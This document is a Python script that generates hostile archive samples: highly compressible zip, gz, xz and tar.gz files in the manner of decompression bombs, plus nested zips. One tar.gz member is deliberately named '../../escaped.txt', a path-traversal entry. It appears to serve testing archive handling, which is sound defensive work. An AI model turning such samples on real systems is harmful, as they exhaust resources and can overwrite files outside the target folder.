"""Write an archive that holds much more than it looks:

    bombs.py OUT SHAPE [MIB [COPIES]]

  zip     COPIES members, each of MIB MiB of one line again and again
  zeros   the same of zeros
  gz, xz  one stream of MIB MiB
  tar.gz  a tar with a member of MIB MiB, packed
  nested  a zip in a zip in a zip in a zip in a zip
"""

import io
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib

LINE = b"error: the pass failed at this very line and goes on to fail there\n"


def text(mib):
    return LINE * ((mib << 20) // len(LINE) + 1)


def deflated(mib, step):
    """One deflate stream, its crc and its size, a MiB at a time."""
    packer, crc, size, parts = zlib.compressobj(6, zlib.DEFLATED, -15), 0, 0, []
    for _ in range(mib):
        crc, size = zlib.crc32(step, crc), size + len(step)
        parts.append(packer.compress(step))
    return b"".join(parts) + packer.flush(), crc, size


def zip_of(out, mib, copies, step):
    data, crc, size = deflated(mib, step)
    central = b""
    for i in range(copies):
        name = b"log%d.txt" % i
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(data), size, len(name), 0)
        central += b"PK\1\2" + struct.pack("<H", 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, out.tell()) + name
        out.write(b"PK\3\4" + fields + name + data)
    at = out.tell()
    out.write(central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, copies, copies, len(central), at, 0))


def main():
    path, shape = sys.argv[1:3]
    mib = int(sys.argv[3]) if len(sys.argv) > 3 else 1
    copies = int(sys.argv[4]) if len(sys.argv) > 4 else 1
    with open(path, "wb") as out:
        if shape == "zip":
            zip_of(out, mib, copies, text(1))
        elif shape == "zeros":
            zip_of(out, mib, copies, bytes(1 << 20))
        elif shape == "gz":
            data, crc, size = deflated(mib, text(1))
            out.write(b"\x1f\x8b\x08\0\0\0\0\0\0\3" + data + struct.pack("<II", crc, size & 0xFFFFFFFF))
        elif shape == "xz":
            packer = lzma.LZMACompressor(preset=0)
            for _ in range(mib):
                out.write(packer.compress(text(1)))
            out.write(packer.flush())
        elif shape == "tar.gz":
            with tarfile.open(fileobj=out, mode="w:gz", compresslevel=1) as archive:
                info = tarfile.TarInfo("../../escaped.txt")
                info.size = mib << 20
                archive.addfile(info, io.BytesIO(text(mib)))
        elif shape == "nested":
            data = LINE
            for i in range(5):
                inner = io.BytesIO()
                with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
                    archive.writestr(f"{i}.txt", data)
                data = inner.getvalue()
            out.write(data)


main()
